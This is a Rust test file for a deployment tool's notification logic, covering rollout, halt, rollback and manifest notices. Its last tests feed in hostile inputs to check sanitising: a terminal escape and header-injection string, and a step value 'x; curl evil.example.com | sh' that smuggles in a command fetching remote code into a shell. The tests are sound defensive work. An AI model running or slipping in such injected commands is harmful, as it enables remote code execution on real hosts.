//! Which notices the state of an app calls for.

use super::*;
use crate::desired::{DeployNote, Hold};
use crate::notify::due::{
    OwnResult, implied_ids, manifest_notices, own_notices, published_id, published_key,
    register_notices, same_publication,
};

fn of_register(fields: &serde_json::Value) -> Vec<Notice> {
    register_notices(subject(), &wanted(), &register(fields))
}

fn failed(node: &str, reason: &str) -> serde_json::Value {
    json!({"node": node, "machine": "m", "attempt": 1, "reason": reason, "log_tail": "last line"})
}

#[test]
fn each_state_of_a_rollout_calls_for_its_own_notice() {
    let canary = |passed: bool| json!([{"node": "web1", "passed": passed}]);
    let count = json!({"hosts": 10, "serving": 10});
    let halt = json!({"cause": "quarantined", "by": "web2", "reason": "the gate failed"});
    for (fields, expected) in [
        (json!({}), vec![]),
        (json!({"count": count}), vec!["started:9999999:43"]),
        (
            json!({"count": count, "canaries": canary(false)}),
            vec!["started:9999999:43"],
        ),
        (
            json!({"count": count, "canaries": canary(true)}),
            vec!["started:9999999:43", "canary:9999999:43"],
        ),
        (
            json!({"count": count, "canaries": canary(false), "skips_canary": true}),
            vec!["started:9999999:43"],
        ),
        (
            json!({"count": count, "end": "done"}),
            vec!["done:9999999:43"],
        ),
        (json!({"count": count, "end": "superseded"}), vec![]),
        (
            json!({"count": count, "halt": halt, "failures": [failed("web2", "the gate failed")]}),
            vec!["halted:9999999:43:0:"],
        ),
    ] {
        let notices = of_register(&fields);
        let is_it = |(id, start): (&&str, &&str)| id.starts_with(*start);
        let ids = ids(&notices);
        assert_eq!(ids.len(), expected.len(), "{fields}: {ids:?}");
        assert!(ids.iter().zip(&expected).all(is_it), "{fields}: {ids:?}");
    }
}

#[test]
fn hosts_that_read_the_same_make_the_same_ids() {
    let fields = json!({"count": {"hosts": 3, "serving": 3}, "halt": {"cause": "environment", "by": "web2", "reason": "db"}});
    let here = of_register(&fields);
    let elsewhere = Subject {
        node: "web7",
        now: at("03:20:00"),
        ..subject()
    };
    let there = register_notices(elsewhere, &wanted(), &register(&fields));
    assert_eq!(ids(&here), ids(&there));
    let other = json!({"count": {"hosts": 3, "serving": 3}, "halt": {"cause": "environment", "by": "web2", "reason": "disk"}});
    assert_ne!(ids(&here), ids(&of_register(&other)));
}

#[test]
fn failures_of_one_cause_are_one_notice_with_a_count() {
    let local =
        |node: &str, reason: &str| json!({"node": node, "stage": "build", "reason": reason});
    let notices = of_register(&json!({
        "count": {"hosts": 10, "serving": 10},
        "local_failures": [
            local("web1", "no space left on /srv (12 of 400 MB)"),
            local("web2", "cannot resolve gems.example.com"),
            local("web3", "no space left on /srv (7 of 380 MB)"),
        ],
    }));
    let failures: Vec<_> = notices
        .iter()
        .filter_map(|notice| notice.failure.as_ref())
        .collect();
    let counts: Vec<(&str, usize)> = failures.iter().map(|f| (&*f.node, f.hosts)).collect();
    assert_eq!(counts, [("web1", 2), ("web2", 1)]);
    assert_eq!(
        notices[1].summary,
        "production/shop: 9999999 failed on web1 and 1 more: build: no space left on /srv (12 of 400 MB)"
    );
}

#[test]
fn register_full_of_causes_makes_few_notices() {
    let reason = |number: u8| "x".repeat(usize::from(number) + 1);
    let many =
        (0..100).map(|number| json!({"node": format!("n{number}"), "reason": reason(number)}));
    let many: Vec<_> = many.collect();
    let notices =
        of_register(&json!({"count": {"hosts": 10, "serving": 10}, "local_failures": many}));
    assert_eq!(notices.len(), 1 + 5);
}

#[test]
fn halted_notice_names_host_log_tail_commits_and_the_way_back() {
    let notices = of_register(&json!({
        "count": {"hosts": 10, "serving": 10},
        "halt": {"cause": "quarantined", "by": "web2", "reason": "the gate failed"},
        "failures": [failed("web1", "timeout"), failed("web2", "the gate failed")],
    }));
    let notice = &notices[0];
    assert_eq!(notice.transition, Transition::Halted);
    assert_eq!(
        notice.summary,
        "production/shop: 9999999 failed on web2: the gate failed"
    );
    let failure = notice.failure.as_ref().unwrap();
    assert_eq!(
        (&*failure.node, &*failure.log_tail, failure.hosts),
        ("web2", "last line", 2)
    );
    assert_eq!(notice.commits, ["9999999 Fix the checkout"]);
    assert_eq!(notice.by.as_deref(), Some("ana"));
    assert_eq!(notice.commands[0].run, "trueup rollback production shop");
    assert!(
        notice.commands[1]
            .run
            .starts_with("trueup rollout quarantine lift production shop")
    );
}

#[test]
fn halt_of_a_policy_that_goes_back_is_a_rollback() {
    let fields = json!({
        "count": {"hosts": 3, "serving": 3},
        "halt": {"cause": "quarantined", "by": "web2", "reason": "the gate failed"},
    });
    let wanted = Wanted {
        on_failure: OnFailure::Rollback,
        ..wanted()
    };
    let notices = register_notices(subject(), &wanted, &register(&fields));
    assert_eq!(notices[0].transition, Transition::RolledBack);
    assert!(
        notices[0]
            .summary
            .ends_with("hosts that have it go back to 4444444")
    );
    assert_eq!(ids(&notices), ids(&of_register(&fields)));
}

fn hold() -> Hold {
    Hold {
        sha: None,
        reason: "db maintenance".into(),
        by: "ana".into(),
        until: Some(at("05:00:00")),
    }
}

#[test]
fn manifest_calls_for_what_is_published_held_and_to_do() {
    let note = DeployNote {
        number: 1,
        text: "run the reindex".into(),
        by: Some("ana".into()),
        at: Some(at("02:00:00")),
    };
    let wanted = Wanted {
        hold: Some(hold()),
        notes: vec![note],
        ..wanted()
    };
    let notices = manifest_notices(subject(), &wanted);
    let transitions: Vec<_> = notices.iter().map(|notice| notice.transition).collect();
    assert_eq!(
        transitions,
        [Transition::Published, Transition::Held, Transition::Note]
    );
    assert_eq!(
        notices[0].summary,
        "production/shop: 9999999 published by ana, 4444444 before"
    );
    assert_eq!(notices[0].notes, ["run the reindex"]);
    assert!(notices[2].summary.contains("run the reindex (ana)"));
    assert!(implied_ids(&wanted).is_empty());
}

#[test]
fn rollback_that_holds_is_one_notice() {
    let mut wanted = wanted();
    wanted.hold = Some(hold());
    wanted.publication.is_rollback = true;
    let notices = manifest_notices(subject(), &wanted);
    assert_eq!(notices[0].transition, Transition::RolledBack);
    assert!(notices[0].hold.is_some());
    assert!(implied_ids(&wanted).contains(&notices[1].id));
}

#[test]
fn change_of_another_app_keeps_the_publication() {
    let first = wanted();
    let mut later = wanted();
    later.generation = Some(44);
    later.publication = Publication::default();
    assert_eq!(published_key(&first), published_key(&later));
    let (known, unknown) = (published_id(&first), published_id(&later));
    assert!(same_publication(&known, &unknown) && same_publication(&unknown, &known));
    // Both know when: the sha was published twice.
    later.publication.generation = Some(45);
    assert!(!same_publication(&known, &published_id(&later)));
    assert!(!same_publication("halted:9999999:43", "halted:9999999:u"));
}

#[test]
fn host_by_itself_notifies_of_its_proof_and_of_its_failure() {
    let own = |result: OwnResult| own_notices(subject(), &wanted(), &result);
    assert_eq!(own(OwnResult::default()), []);
    let proven = own(OwnResult {
        is_proven: true,
        failure: None,
    });
    assert_eq!(
        proven[0].summary,
        "production/shop: 9999999 is on web1; each host takes it by itself"
    );
    let failure = |reason: &str| {
        Some((
            Some("build".to_owned()),
            reason.to_owned(),
            "tail".to_owned(),
        ))
    };
    let failed = |reason: &str| {
        own(OwnResult {
            is_proven: false,
            failure: failure(reason),
        })
    };
    assert_eq!(failed("exited with 1")[0].id, failed("exited with 2")[0].id);
    assert_ne!(failed("exited with 1")[0].id, failed("no space")[0].id);
}

#[test]
fn texts_from_elsewhere_are_bounded_lines_without_control_characters() {
    let mut wanted = wanted();
    wanted.publication.reason = Some(format!("a\x1b]52;c;x\x07\nBcc: x{}", "y".repeat(10_000)));
    wanted.publication.commits = vec!["1 a\r\nb".into(); 50];
    let notice = &manifest_notices(subject(), &wanted)[0];
    let reason = notice.reason.as_deref().unwrap();
    assert!(
        reason.chars().count() <= 201 && !reason.chars().any(char::is_control),
        "{reason}"
    );
    assert_eq!((notice.commits.len(), notice.more_commits), (10, 40));
    assert!(!notice.commits[0].contains('\n'));
}

#[test]
fn command_with_a_forged_step_is_not_offered() {
    let halt = |step: &str| {
        let halt = json!({"cause": "once-step", "by": "web1", "reason": "it failed", "step": step});
        let notices = of_register(&json!({"count": {"hosts": 3, "serving": 3}, "halt": halt}));
        notices[0].commands.len()
    };
    assert_eq!(halt("db-migrate"), 1);
    assert_eq!(halt("x; curl evil.example.com | sh"), 0);
}
